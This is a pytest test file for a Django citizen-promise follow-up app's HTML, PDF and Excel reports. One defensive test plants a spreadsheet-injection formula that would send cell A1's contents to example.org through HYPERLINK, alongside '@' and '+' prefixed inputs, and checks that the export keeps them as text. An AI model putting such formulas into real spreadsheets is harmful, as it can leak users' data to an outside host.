import datetime
import io
import itertools
import re

import pytest
from django.urls import reverse
from django.utils.html import strip_tags
from openpyxl import load_workbook
from pypdf import PdfReader

from followup.report import PdfUnavailable, build_report, render_pdf
from tests.factories import ActivityFactory, CommitmentFactory, LocalProblemFactory

from .conftest import LABELS, ZOO, weasyprint_or_skip

D = datetime.date


@pytest.fixture
def get(client, promise, reviewer):
    client.force_login(reviewer)

    def get(name, **params):
        return client.get(reverse(name, args=[promise.slug]), params)

    return get


class TestPage:
    def test_defaults_to_this_year_up_to_today(self, get, zoo):
        report = get("report").context["report"]
        assert (report.start, report.end, report.as_of) == (
            D(2025, 1, 1),
            D(2025, 10, 20),
            D(2025, 10, 20),
        )

    def test_one_section_per_focus_area_with_every_commitment(self, get, zoo):
        text = get("report").text
        assert "<h2>Trygghet</h2>" in text
        for key in ZOO:
            assert f"Åtagande {key}." in text

    def test_each_commitment_with_target_count_status_and_descriptions(self, get, zoo):
        text = " ".join(strip_tags(get("report").text).split())
        assert "Mål: 2 per år." in text
        assert "Status: Ligger efter." in text
        assert "0 av 2 för 2025-01-01 – 2025-12-31." in text
        assert "2025-03-01 Lokalpolisområde Piteå älvdal: Aktivitet för at-risk." in text

    def test_says_what_open_quotas_still_need_and_links_each_commitment(self, get, zoo, promise):
        response = get("report", as_of="2025-10-20")
        text = " ".join(strip_tags(response.text).split())
        assert "Behövs: 2 till före 2025-12-31." in text
        for key in ZOO:
            link = reverse("commitment_detail", args=[promise.slug, key]) + "?as_of=2025-10-20"
            assert f'href="{link}"' in response.text

    def test_the_result_so_far_before_the_end_and_the_final_result_after(self, get, zoo):
        before = strip_tags(get("report", as_of="2025-10-20").text)
        assert "Resultat hittills, per 2025-10-20" in before and "Slutresultat" not in before
        after = " ".join(strip_tags(get("report", as_of="2026-01-10").text).split())
        first = after.index("Slutresultat per 2025-12-31")
        assert first < after.index("Åtagandena 2026-01-10") < after.index("Trygghet")
        assert "Missade målperioder" in after[first:]

    def test_headings_never_skip_a_level_under_sub_headings(self, get, zoo, promise):
        CommitmentFactory(focus_area=zoo["met"].focus_area, key="gruppen", group="Skolan")
        levels = [int(h) for h in re.findall(r"<h([1-6])", get("report").text.split("<main")[1])]
        assert levels[0] == 1
        assert all(b <= a + 1 for a, b in zip(levels, levels[1:], strict=False)), levels

    def test_every_status_in_words(self, get, zoo):
        text = get("report").text
        for label in LABELS:
            assert f"Status: <strong>{label}</strong>." in text, label

    def test_only_the_periods_activities(self, get, zoo):
        response = get("report", **{"from": "2025-05-01", "to": "2025-09-30"})
        lines = {line.result.key: line for line in response.context["report"].lines}
        assert [a.occurred_on for a in lines["done"].activities] == [D(2025, 5, 5)]
        assert lines["at-risk"].activities == [] and lines["at-risk"].count == 0
        assert lines["active"].count == 0  # 2025-10-01 is after the period
        assert "Inga aktiviteter under rapportperioden." in response.text

    def test_status_is_as_of_the_report_date(self, get, zoo):
        def status(as_of):
            lines = get("report", as_of=as_of).context["report"].lines
            return next(line.result.status for line in lines if line.result.key == "behind")

        assert status("2025-12-31") == "behind"  # the period's last day
        assert status("2026-01-01") == "missed"

    @pytest.mark.parametrize(
        "params, message",
        [
            (
                {"from": "2025-13-01"},
                "from måste vara ett datum skrivet ÅÅÅÅ-MM-DD, inte 2025-13-01.",
            ),
            ({"from": "2025-06-01", "to": "2025-05-01"}, "Periodens slut är före dess början."),
            (
                {"from": "1900-01-01", "to": "2100-12-31"},
                "En rapport omfattar högst 10 år: från 1900-01-01 till senast 1909-12-31.",
            ),
        ],
    )
    def test_bad_dates(self, get, zoo, params, message):
        response = get("report", **params)
        assert response.status_code == 400
        assert message in response.text

    def test_ten_years_are_a_report(self, get, zoo):
        assert get("report", **{"from": "2024-01-01", "to": "2033-12-31"}).status_code == 200

    def test_headings_never_skip_a_level(self, get, zoo):
        area = zoo["met"].focus_area
        problem = LocalProblemFactory(focus_area=area, title="Klotter")
        CommitmentFactory(focus_area=area, local_problem=problem, text="Sanera klotter.")
        text = get("report").text
        levels = [int(level) for level in re.findall(r"<h([1-6])[ >]", text)]
        assert levels[0] == 1
        assert all(b <= a + 1 for a, b in itertools.pairwise(levels)), levels
        assert re.search(r'<h3 class="commitment-text h4"><a [^>]+>Åtagande met\.</a></h3>', text)
        assert re.search(r'<h4 class="commitment-text h4"><a [^>]+>Sanera klotter\.</a></h4>', text)

    def test_print_styles_hide_the_navigation(self, client, zoo):
        from pathlib import Path

        from django.contrib.staticfiles import finders

        css = Path(finders.find("css/app.css")).read_text(encoding="utf-8")
        assert "@media print" in css and ".site-header" in css.split("@media print")[1]


class TestPdf:
    def test_is_a_pdf_with_a_title_page_and_every_commitment(self, get, zoo):
        weasyprint_or_skip()
        response = get("report_pdf", **{"from": "2025-01-01", "to": "2025-06-30"})
        assert response["Content-Type"] == "application/pdf"
        assert (
            response["Content-Disposition"]
            == 'attachment; filename="uppfoljning-lofte-2025-10-20.pdf"'
        )
        assert response.content.startswith(b"%PDF-")
        pages = [page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages]
        title = pages[0]
        assert "Uppföljning av Medborgarlöfte" in title
        assert "Lokalpolisområde Piteå älvdal · Älvsbyns kommun" in title
        assert "2025-01-01 – 2025-06-30" in title  # the report period
        assert "2025-10-20" in title  # the date
        body = " ".join(pages[1:])
        for key in ZOO:
            assert f"Åtagande {key}." in body
        assert f"Sida 2 av {len(pages)}" in pages[1]
        assert "Sida" not in title  # no number on the title page

    def test_has_the_charts(self, get, zoo):
        weasyprint_or_skip()
        pages = [p.extract_text() for p in PdfReader(io.BytesIO(get("report_pdf").content)).pages]
        text = " ".join(pages)
        assert "Aktiviteter per månad och part" in text and "Målperioder per år" in text

    def test_unavailable_weasyprint_is_a_clear_503(self, get, zoo, monkeypatch):
        def broken(report, base_url):
            raise PdfUnavailable("no pango")

        monkeypatch.setattr("followup.views.reports.render_pdf", broken)
        response = get("report_pdf")
        assert response.status_code == 503
        assert "WeasyPrint behöver biblioteket Pango" in response.content.decode()


class TestExcel:
    @pytest.fixture
    def workbook(self, get, zoo):
        response = get("report_xlsx")
        assert response["Content-Type"] == (
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        return load_workbook(io.BytesIO(response.content))

    def test_a_sheet_per_view_with_frozen_headers_and_filters(self, workbook):
        assert workbook.sheetnames == [
            "Översikt", "Målperioder per år", "Målperioder", "Aktiviteter",
        ]  # fmt: skip
        for sheet in workbook:
            assert sheet.freeze_panes == "A2"
            assert sheet.auto_filter.ref == sheet.dimensions
            assert all(cell.font.bold for cell in sheet[1])

    def test_summary_types_and_values(self, workbook):
        sheet = workbook["Översikt"]
        header = [c.value for c in sheet[1]]
        rows = {
            row[3]: dict(zip(header, row, strict=True))
            for row in sheet.iter_rows(min_row=2, values_only=True)
        }
        behind = rows["behind"]
        assert behind["Status"] == "Ligger efter"
        assert behind["Periodens början"] == datetime.datetime(2025, 1, 1)  # a date cell
        assert (behind["Antal"], behind["Periodens mål"]) == (0, 2)
        assert rows["at-risk"]["Senaste aktivitet"] == datetime.datetime(2025, 3, 1)
        assert rows["not-started"]["Periodens början"] is None
        assert sheet.cell(row=2, column=9).number_format == "yyyy-mm-dd"
        assert (behind["Behövs"], behind["Behövs senast"]) == (
            "2 till före 2025-12-31", datetime.datetime(2025, 12, 31),
        )  # fmt: skip
        assert rows["met"]["Behövs"] is None

    def test_quota_periods_per_year_as_in_the_follow_up(self, workbook):
        rows = list(workbook["Målperioder per år"].iter_rows(values_only=True))
        assert rows == [
            ("År", "Perioder", "Uppfyllda", "Missade", "Pågående", "Kommande"),
            (2024, 7, 0, 7, 0, 0),
            (2025, 7, 1, 3, 3, 0),
        ]

    def test_quota_periods(self, workbook):
        rows = list(workbook["Målperioder"].iter_rows(min_row=2, values_only=True))
        behind = [r for r in rows if r[0] == "behind"]
        assert [(r[2].date(), r[3].date(), r[4], r[5], r[6], r[7]) for r in behind] == [
            (D(2024, 1, 1), D(2024, 12, 31), False, 2, 0, "Missat"),
            (D(2025, 1, 1), D(2025, 12, 31), False, 2, 0, "Ligger efter"),
        ]
        assert [(r[8], r[9]) for r in behind] == [("2024", 2024), ("2025", 2025)]

    def test_activities_of_the_period_as_typed_cells(self, workbook):
        rows = list(workbook["Aktiviteter"].iter_rows(min_row=2, values_only=True))
        assert [r[0].date() for r in rows] == [
            D(2025, 2, 1),
            D(2025, 3, 1),
            D(2025, 3, 1),
            D(2025, 5, 5),
            D(2025, 5, 5),
            D(2025, 10, 1),
        ]
        assert all(isinstance(r[4], int) for r in rows)

    def test_user_text_is_text_never_a_formula(self, get, zoo, promise):
        hostile = '=HYPERLINK("https://example.org/?"&A1,"Klicka")'
        ActivityFactory(
            commitment=zoo["met"], occurred_on=D(2025, 6, 1), description=hostile,
            place="@SUM(1+1)", kind="+kontroll",
        )  # fmt: skip
        CommitmentFactory(
            focus_area=zoo["met"].focus_area, key="minus", text="-5 grader: halkbekämpning.",
            responsible=[promise.police_area],
        )  # fmt: skip
        workbook = load_workbook(io.BytesIO(get("report_xlsx").content))
        (row,) = [r for r in workbook["Aktiviteter"].iter_rows(min_row=2) if r[6].value == hostile]
        assert [(c.value, c.data_type) for c in row[5:8]] == [
            ("+kontroll", "s"), (hostile, "s"), ("@SUM(1+1)", "s"),
        ]  # fmt: skip
        assert all(c.quotePrefix for c in row[5:8])  # stays text when the cell is edited
        summary = {r[3].value: r for r in workbook["Översikt"].iter_rows(min_row=2)}
        assert (summary["minus"][4].value, summary["minus"][4].data_type) == (
            "-5 grader: halkbekämpning.", "s",
        )  # fmt: skip
        assert not any(
            cell.data_type == "f" for sheet in workbook for row in sheet.iter_rows()
            for cell in row
        )  # fmt: skip

    def test_a_control_character_in_a_text_does_not_break_the_workbook(self, get, zoo):
        ActivityFactory(
            commitment=zoo["met"], occurred_on=D(2025, 6, 1),
            description="Möte\x01 med skolan\x1b\x0c.\nUppföljning\tklar.", place="Skolan\x7f",
        )  # fmt: skip
        response = get("report_xlsx")
        assert response.status_code == 200
        rows = load_workbook(io.BytesIO(response.content))["Aktiviteter"].iter_rows(
            min_row=2, values_only=True
        )
        descriptions = {r[6]: r[7] for r in rows}
        # What XML cannot hold is left out; newline, tab and DEL stay.
        assert descriptions["Möte med skolan.\nUppföljning\tklar."] == "Skolan\x7f"


def test_query_budget_with_50_commitments_and_5000_activities(
    client, reviewer, big, django_assert_max_num_queries
):
    client.force_login(reviewer)
    for name in ["report", "report_xlsx"]:
        url = reverse(name, args=[big.slug])
        client.get(url)
        with django_assert_max_num_queries(14):
            assert client.get(url).status_code == 200


def test_pdf_query_budget(big, django_assert_max_num_queries):
    weasyprint_or_skip()
    from commitments.models import Promise

    # 11, one for the open plans, one for file names, one for the local problems' steps
    with django_assert_max_num_queries(14):
        promise = Promise.objects.with_parties().get(pk=big.pk)
        report = build_report(promise, D(2025, 10, 20), D(2025, 1, 1), D(2025, 10, 20))
        assert render_pdf(report, "http://testserver/").startswith(b"%PDF-")
